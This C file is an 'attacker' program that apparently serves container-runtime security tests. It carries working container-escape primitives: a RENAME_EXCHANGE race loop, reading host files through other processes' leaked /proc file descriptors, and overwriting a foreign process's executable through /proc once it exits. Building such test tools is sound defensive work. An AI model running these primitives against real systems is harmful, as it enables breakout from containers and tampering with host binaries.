/* The attacker's program, for what a shell is too slow for. Static: it runs in the container, too.
 *
 *	attacker exchange A B            A and B change places without end
 *	attacker descriptors PATH        looks below and above every descriptor of every process it sees for PATH, and
 *	                                 prints what is in it; ends after the first success
 *	attacker program FIFO TEXT       waits for a process that opens FIFO for writing and is not this program, keeps its
 *	                                 program file, lets it end, and writes TEXT over the file; says "overwritten"
 *
 * Each ends after two minutes at the latest. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

static int exchange(const char *a, const char *b)
{
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	/* a race is only one while both run */
	(void)setpriority(PRIO_PROCESS, 0, -5);
	for (;;) {
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT) {
			perror("exchange");
			return 1;
		}
		(void)usleep(20); /* without a pause nobody else would get at the folder */
	}
}

static bool is_number(const char *s)
{
	return *s >= '0' && *s <= '9';
}

static bool print_file(const char *path)
{
	char text[4096];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text));

	if (fd >= 0)
		(void)close(fd);
	return n > 0 && write(STDOUT_FILENO, text, (size_t)n) == n;
}

/* From a descriptor itself (a procfs of the host's has the host's processes), and up from a folder of the host's. */
static bool through(const char *pid, const char *path)
{
	static const char *const ways[] = { "", "/../../../../../../../../../../.." };
	char at[PATH_MAX];
	bool found = false;

	for (int fd = 3; fd < 24 && !found; fd++)
		for (size_t i = 0; i < sizeof(ways) / sizeof(*ways) && !found; i++) {
			(void)snprintf(at, sizeof(at), "/proc/%s/fd/%d%s%s", pid, fd, ways[i], path);
			found = print_file(at);
		}
	return found;
}

static int descriptors(const char *path)
{
	char own[16];

	(void)snprintf(own, sizeof(own), "%d", (int)getpid());
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)))
			if (is_number(e->d_name) && strcmp(e->d_name, "1") != 0 && strcmp(e->d_name, own) != 0 &&
			    through(e->d_name, path))
				return 0;
		if (d)
			(void)closedir(d);
	}
}

/* The program file of a process that is not ours, or -1. */
static int foreign_program(const struct stat *own)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int fd = -1;

	while (d && fd < 0 && (e = readdir(d))) {
		char at[64], where[64] = "";
		struct stat st;

		(void)snprintf(at, sizeof(at), "/proc/%.16s/exe", e->d_name);
		if (!is_number(e->d_name) || stat(at, &st) < 0 || (st.st_ino == own->st_ino && st.st_dev == own->st_dev))
			continue;
		/* the container's own programs are in its root */
		if (readlink(at, where, sizeof(where) - 1) > 0 && strncmp(where, "/bin/", 5) == 0)
			continue;
		fd = open(at, O_RDONLY | O_CLOEXEC);
	}
	if (d)
		(void)closedir(d);
	return fd;
}

static int program(const char *fifo, const char *text)
{
	struct stat own;
	char at[64];
	int exe = -1, gate;

	if (stat("/proc/self/exe", &own) < 0)
		return 1;
	while (exe < 0)
		exe = foreign_program(&own);
	gate = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC); /* whoever waits at it goes on, and ends */
	(void)snprintf(at, sizeof(at), "/proc/self/fd/%d", exe);
	for (;;) {
		int fd = open(at, O_WRONLY | O_TRUNC | O_CLOEXEC);

		if (fd >= 0 && write(fd, text, strlen(text)) > 0) {
			(void)puts("overwritten");
			return 0;
		}
		if (fd < 0 && errno != ETXTBSY) {
			(void)printf("refused: %s\n", strerror(errno));
			return 1;
		}
		(void)close(fd);
		(void)usleep(1000);
		(void)gate;
	}
}

int main(int argc, char **argv)
{
	(void)alarm(120);
	if (argc == 4 && strcmp(argv[1], "exchange") == 0)
		return exchange(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "descriptors") == 0)
		return descriptors(argv[2]);
	if (argc == 4 && strcmp(argv[1], "program") == 0)
		return program(argv[2], argv[3]);
	(void)fputs("attacker: see its source\n", stderr);
	return 2;
}
